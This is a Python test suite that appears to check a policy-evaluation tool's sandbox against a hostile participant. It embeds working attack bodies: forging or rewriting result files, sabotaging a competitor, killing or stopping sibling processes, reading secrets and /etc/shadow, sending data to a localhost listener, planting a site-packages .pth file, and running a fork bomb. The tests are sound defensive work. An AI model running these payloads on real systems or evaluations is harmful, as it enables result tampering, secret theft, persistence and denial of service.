"""A hostile participant's attacks on a real campaign: each ends with the attacker at its honest numbers or failed.

Every test evaluates greedy, an honest competitor and one attacker
(``helpers.hostile``) with ``ember evaluate --keep-records``, then checks
that greedy's and the competitor's rows are those of a clean run (wall time
aside) with their kept records intact, that the attacker's rows are honest
(failed, or greedy's numbers: it plays greedy), that the results directory
still reads, and what the attack itself tried.  On the code before the
sandbox each of these attacks worked.
"""

import gzip
import hashlib
import json
import os
import pathlib
import signal
import site
import socket
import subprocess
import sys
import uuid

import pytest

from helpers.hostile import (
    COMPETITOR,
    SEEDS,
    agent_attacker,
    attacker_is_honest,
    evaluate,
    honest_rows,
    logs_text,
    python_attacker,
    write_hostile_campaign,
)
from helpers.sandboxes import open_folder, write_file

FIRE_OFF = """
import ember.sim.fire as fire
fire.FireSpread.ignitions = lambda self, step: []

def make(scenario):
    return GreedyPolicy(scenario)
"""
FORGE_PYTHON = """
def make(scenario):
    frame = forged_frame(scenario)
    for path in pipes():
        write_to(path, frame)
    return GreedyPolicy(scenario)
"""
FORGE_AGENT = """
from ember.scenario import load_scenario
_frame = forged_frame(load_scenario("builtin:office"))
for _path in foreign_pipes(os.getppid()):
    write_to(_path, _frame)
"""
REWRITE_ROWS = """
def make(scenario):
    for task in tasks():
        path = os.path.join(task["results"], "episodes.jsonl")
        rows = [json.loads(line) for line in open(path)]
        for row in rows:
            if row["policy"] == "greedy" and row["metrics"]:
                row["metrics"]["safety"]["casualties"] = 48
        with open(path, "w") as handle:
            handle.writelines(json.dumps(row, sort_keys=True, separators=(",", ":")) + "\\n" for row in rows)
        for folder, _, names in os.walk(os.path.join(task["results"], "records", "greedy")):
            for name in names:
                with open(os.path.join(folder, name), "wb") as handle:
                    handle.write(b"replaced")
    return GreedyPolicy(scenario)
"""
EDIT_COMPETITOR = """
def make(scenario):
    try:
        with open(os.path.join(HERE, "competitor.py"), "w") as handle:
            handle.write("def make(scenario):\\n    return lambda o: {p['person_id']: 'stay' for p in o['people']}\\n")
    except OSError as exc:
        print("cannot edit the competitor:", exc, file=sys.stderr)
    return GreedyPolicy(scenario)
"""
KILL_SIBLINGS = """
def make(scenario):
    me = os.getpid()
    worker = parent_of(me)
    command = parent_of(worker)
    if command > 1:
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline:
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) not in (me, worker) and parent_of(int(name)) == command:
                    try:
                        os.kill(int(name), signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.05)
    return GreedyPolicy(scenario)
"""
STOP_COMMAND = """
def make(scenario):
    command = parent_of(parent_of(os.getpid()))
    if command > 1:
        os.kill(command, signal.SIGSTOP)
    return GreedyPolicy(scenario)
"""
DUPLICATE_ROW = """
def make(scenario):
    for task in tasks():
        path = os.path.join(task["results"], "episodes.jsonl")
        with open(path) as handle:
            first = handle.readline()
        with open(path, "a") as handle:
            handle.write(first)
    return GreedyPolicy(scenario)
"""
HEARTBEAT = """
def make(scenario):
    def feed():
        while True:
            for path in pipes():
                write_to(path, struct.pack("<cQ", b"B", 1))
            time.sleep(0.2)
    threading.Thread(target=feed, daemon=True).start()
    greedy = GreedyPolicy(scenario)
    def policy(observation):
        if observation["step"] == 1:
            time.sleep(3)
        return greedy(observation)
    return policy
"""


@pytest.fixture(scope="module")
def clean(tmp_path_factory):
    """The rows of the campaign without the attacker."""
    base = tmp_path_factory.mktemp("clean")
    with open_folder() as folder:
        done = evaluate(write_hostile_campaign(folder), base / "R")
    assert done.returncode == 0, done.stderr
    return honest_rows(base / "R")


def attack(tmp_path, attacker, keys="", flags=(), env=None, attacker_last=False, timeout=120):
    """Evaluate the hostile campaign; (the command's outcome, results directory, campaign folder's files after)."""
    results = tmp_path / "R"
    with open_folder() as folder:
        campaign = write_hostile_campaign(folder, attacker, keys, attacker_last)
        done = evaluate(campaign, results, *flags, env=env, timeout=timeout)
        after = {name: pathlib.Path(folder, name).read_text() for name in sorted(os.listdir(folder))}
    return done, results, after


def assert_others_untouched(done, results, after, clean):
    assert done.returncode == 0, done.stderr
    rows = honest_rows(results)
    for policy in ("greedy", "competitor"):
        for seed in SEEDS:
            row = rows[(policy, seed)]
            assert row == clean[(policy, seed)]
            data = gzip.decompress((results / row["record"]).read_bytes())
            assert hashlib.sha256(data).hexdigest() == row["record_sha256"]
    assert after["competitor.py"] == COMPETITOR.lstrip("\n") or after["competitor.py"] == COMPETITOR
    ranked = subprocess.run(
        [sys.executable, "-m", "ember.cli", "rank", str(results)], capture_output=True, timeout=60, check=False
    )
    assert ranked.returncode == 0, ranked.stderr
    return rows


@pytest.mark.parametrize(
    ("name", "attacker", "flags"),
    [
        ("fire switched off", python_attacker(FIRE_OFF), ()),
        ("forged result frame (python)", python_attacker(FORGE_PYTHON), ()),
        ("forged result frame (agent, /proc/<ppid>/fd)", agent_attacker(FORGE_AGENT), ()),
        ("competitor's module edited", python_attacker(EDIT_COMPETITOR), ()),
        ("sibling workers killed", python_attacker(KILL_SIBLINGS), ("--workers", "2")),
        ("fire switched off, --sandbox off", python_attacker(FIRE_OFF), ("--sandbox", "off")),
        ("forged result frame, --sandbox off", python_attacker(FORGE_PYTHON), ("--sandbox", "off")),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_an_attacker_ends_at_its_honest_numbers_or_failed(tmp_path, clean, name, attacker, flags):
    done, results, after = attack(tmp_path, attacker, flags=flags)
    rows = assert_others_untouched(done, results, after, clean)
    assert attacker_is_honest(rows), [rows[("attacker", seed)] for seed in SEEDS]
    assert not [row for row in rows.values() if row["error"] == "worker lost"]


@pytest.mark.parametrize(
    "body", [REWRITE_ROWS, DUPLICATE_ROW], ids=["rows and records rewritten", "duplicate row appended"]
)
def test_the_results_directory_is_out_of_reach(tmp_path, clean, body):
    done, results, after = attack(tmp_path, python_attacker(body), attacker_last=True)
    rows = assert_others_untouched(done, results, after, clean)
    assert attacker_is_honest(rows)
    lines = (results / "episodes.jsonl").read_bytes().splitlines()
    assert len(lines) == len(set(lines)) == 3 * len(SEEDS)


def test_a_stopped_command_is_out_of_reach(tmp_path, clean):
    done, results, after = attack(tmp_path, python_attacker(STOP_COMMAND), timeout=90)
    rows = assert_others_untouched(done, results, after, clean)
    assert attacker_is_honest(rows)


def test_feeding_the_watchdog_does_not_buy_time(tmp_path, clean):
    done, results, after = attack(tmp_path, python_attacker(HEARTBEAT), keys="step_timeout = 1.0\n")
    rows = assert_others_untouched(done, results, after, clean)
    for seed in SEEDS:
        assert rows[("attacker", seed)]["status"] == "failed"


def test_secrets_the_seed_and_the_network_are_out_of_reach(tmp_path, clean, monkeypatch):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    results = tmp_path / "R"
    with open_folder() as elsewhere:
        secret = write_file(elsewhere, "token.txt", "operator-file-secret-8841\n")
        body = f"""
def make(scenario):
    said = {{"env": dict(os.environ), "tasks": [dict(t, scenario=None) for t in tasks()]}}
    targets = [{secret!r}, {str(results / "campaign.json")!r}, "/etc/shadow"]
    for path in targets + [os.path.join(HERE, "competitor.py"), os.path.join(HERE, "campaign.toml")]:
        try:
            said[path] = open(path).read()
        except OSError as exc:
            said[path] = str(exc)
    said["links"] = []
    for pid in ("self", str(os.getppid()), str(parent_of(os.getppid()))):
        try:
            for name in os.listdir(f"/proc/{{pid}}/fd"):
                said["links"].append(os.readlink(f"/proc/{{pid}}/fd/{{name}}"))
        except OSError:
            pass
    try:
        import socket
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"exfiltrated")
        said["tcp"] = "connected"
    except OSError as exc:
        said["tcp"] = str(exc)
    print(json.dumps(said, default=str), file=sys.stderr, flush=True)
    return GreedyPolicy(scenario)
"""
        monkeypatch.setenv("EMBER_SECRET_TOKEN", "operator-env-secret-5512")
        with open_folder() as folder:
            campaign = write_hostile_campaign(folder, python_attacker(body))
            done = evaluate(campaign, results)
            after = {name: pathlib.Path(folder, name).read_text() for name in sorted(os.listdir(folder))}
    try:
        rows = assert_others_untouched(done, results, after, clean)
        assert attacker_is_honest(rows)
        said = logs_text(results)
        assert "operator-env-secret-5512" not in said
        assert "operator-file-secret-8841" not in said
        assert "competitor-secret-weights" not in said
        assert '"campaign": "hostile"' not in said  # campaign.json of the results directory
        assert 'campaign = \\"hostile\\"' not in said  # the campaign file
        assert "root:" not in said  # /etc/shadow
        for seed in SEEDS:
            assert str(seed) not in said
        assert '"tcp": "connected"' not in said
        with pytest.raises(TimeoutError):
            listener.accept()
    finally:
        listener.close()


def test_nothing_stays_in_the_python_installation(tmp_path, clean):
    marker = f"ember-hostile-{uuid.uuid4().hex}"
    targets = [os.path.join(path, f"{marker}.pth") for path in site.getsitepackages()]
    body = f"""
def make(scenario):
    for path in {targets!r}:
        try:
            with open(path, "w") as handle:
                handle.write("import os; os.environ.get('EMBER_PTH_PROBE') and print('{marker}')\\n")
        except OSError:
            pass
    return GreedyPolicy(scenario)
"""
    try:
        done, results, after = attack(tmp_path, python_attacker(body))
        rows = assert_others_untouched(done, results, after, clean)
        assert attacker_is_honest(rows)
        assert [path for path in targets if os.path.exists(path)] == []
        later = subprocess.run(
            [sys.executable, "-c", "pass"],
            capture_output=True,
            env=dict(os.environ, EMBER_PTH_PROBE="1"),
            timeout=60,
            check=False,
        )
        assert marker.encode() not in later.stdout
    finally:
        for path in targets:
            if os.path.exists(path):
                os.remove(path)


def test_memory_over_memory_mb_is_the_memory_row(tmp_path, clean):
    body = """
def make(scenario):
    greedy = GreedyPolicy(scenario)
    def policy(observation):
        policy.hoard = b"x" * (256 << 20)
        return greedy(observation)
    return policy
"""
    done, results, after = attack(tmp_path, python_attacker(body), keys="memory_mb = 64\n")
    rows = assert_others_untouched(done, results, after, clean)
    for seed in SEEDS:
        assert rows[("attacker", seed)]["error"] == "the policy exceeded its memory limit of 64 MiB"


def test_tmp_over_tmp_mb_is_refused_and_gone_after(tmp_path, clean):
    name = f"ember-hostile-{uuid.uuid4().hex}"
    body = f"""
def make(scenario):
    written = 0
    try:
        with open("/tmp/{name}", "wb") as handle:
            for _ in range(32):
                handle.write(bytes(1 << 20))
                handle.flush()
                written += 1
    except OSError as exc:
        print("tmp:", written, exc.strerror, file=sys.stderr, flush=True)
    return GreedyPolicy(scenario)
"""
    try:
        done, results, after = attack(tmp_path, python_attacker(body), keys="tmp_mb = 8\n")
        rows = assert_others_untouched(done, results, after, clean)
        assert attacker_is_honest(rows)
        assert "No space left on device" in logs_text(results)
        assert not os.path.exists(f"/tmp/{name}")
    finally:
        if os.path.exists(f"/tmp/{name}"):
            os.remove(f"/tmp/{name}")


def test_a_fork_bomb_is_bounded_and_ended_with_the_episode(tmp_path, clean):
    seconds = f"97.{uuid.uuid4().int % 10**9:09d}"
    body = f"""
def make(scenario):
    started = 0
    for _ in range(40):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.setsid()
            os.execv("/bin/sleep", ["sleep", "{seconds}"])
        started += 1
    print("forked", started, file=sys.stderr, flush=True)
    return GreedyPolicy(scenario)
"""
    try:
        done, results, after = attack(tmp_path, python_attacker(body), keys="max_processes = 8\n")
        rows = assert_others_untouched(done, results, after, clean)
        assert attacker_is_honest(rows)
        counts = [int(line.split()[1]) for line in logs_text(results).splitlines() if line.startswith("forked ")]
        assert counts and max(counts) < 8
        assert _sleepers(seconds) == []
    finally:
        for pid in _sleepers(seconds):
            os.kill(pid, signal.SIGKILL)


def _sleepers(seconds):
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                cmdline = pathlib.Path("/proc", name, "cmdline").read_bytes()
            except OSError:
                continue
            if seconds.encode() in cmdline:
                found.append(int(name))
    return found


def test_the_sandbox_keys_are_kept_and_a_change_on_resume_is_refused(tmp_path):
    keys = 'memory_mb = 512\nmax_processes = 16\ntmp_mb = 32\nepisode_timeout = 600.0\nenv = { MODE = "fast" }\n'
    with open_folder() as folder:
        campaign = write_hostile_campaign(folder, python_attacker(FIRE_OFF), keys=keys)
        done = evaluate(campaign, tmp_path / "R")
        assert done.returncode == 0, done.stderr
        entry = json.loads((tmp_path / "R" / "campaign.json").read_text())["policies"][0]
        assert {key: entry[key] for key in ("memory_mb", "max_processes", "tmp_mb", "episode_timeout", "env")} == {
            "memory_mb": 512,
            "max_processes": 16,
            "tmp_mb": 32,
            "episode_timeout": 600.0,
            "env": {"MODE": "fast"},
        }
        write_hostile_campaign(folder, python_attacker(FIRE_OFF), keys=keys.replace("512", "1024"))
        again = evaluate(campaign, tmp_path / "R")
    assert again.returncode == 2
    assert "memory_mb" in again.stderr.decode()
